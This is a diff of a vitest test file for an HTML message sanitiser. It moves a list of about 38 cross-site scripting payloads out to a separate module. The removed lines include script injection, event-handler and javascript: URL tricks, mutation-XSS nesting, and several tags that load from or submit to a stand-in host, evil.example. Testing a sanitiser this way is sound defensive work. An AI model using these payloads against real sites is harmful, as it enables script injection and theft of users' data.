@@ -1,48 +1,7 @@
 import { describe, expect, test } from "vitest";
 import { sanitiseMessage } from "../../../src/rooms/page/notification-html.ts";
 import { textToHtml } from "../../../src/rooms/page/plain-text.ts";
-
-/** Ways into a page that have worked somewhere. */
-const attacks: readonly string[] = [
-  "<script>alert(1)</script>",
-  "<ScRiPt src=//evil.example></sCrIpT>",
-  "<img src=x onerror=alert(1)>",
-  '<img src="javascript:alert(1)">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  '<img src=https://a.example/" onload="alert(1)">',
-  "<svg onload=alert(1)><circle/></svg>",
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript&colon;alert(1)">x</a>',
-  '<a href="vbscript:x">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="/v1/rooms/message?message=x">x</a>',
-  '<img src="/v1/rooms/message?message=x">',
-  '<img src="//evil.example/x.png">',
-  '<a href="https://a.example" onclick="alert(1)" style="position:fixed" id="x" class="pill">x</a>',
-  "<iframe src=https://evil.example></iframe>",
-  "<object data=x></object><embed src=x><applet code=x>",
-  "<form action=https://evil.example><input name=p><button>x</button></form>",
-  "<meta http-equiv=refresh content=0;url=https://evil.example>",
-  "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example>",
-  "<style>*{background:url(https://evil.example)}</style>",
-  '<span style="background:url(https://evil.example);position:fixed;color:expression(alert(1))">x</span>',
-  '<span data-style="background:url(x)">x</span>',
-  '<b onmouseover="alert(1)">x</b>',
-  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-  "<textarea></textarea><title></title><xmp><script>alert(1)</script></xmp>",
-  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
-  "<details open ontoggle=alert(1)>x</details>",
-  "<template><script>alert(1)</script></template>",
-  "<table background=javascript:alert(1)><td background=x>y</td></table>",
-  "<!--><script>alert(1)</script>-->",
-  "<![CDATA[<script>alert(1)</script>]]>",
-  "<b/onclick=alert(1)//",
-  "</div></article><script>alert(1)</script>",
-  "\u0000<script\u0000>alert(1)</script>",
-];
+import { attacks } from "./attacks.ts";
 
 const allowedTags = new Set(
   "a b i strong em br img pre code span ul ol li dl dt dd table caption thead tbody tfoot tr th td blockquote".split(
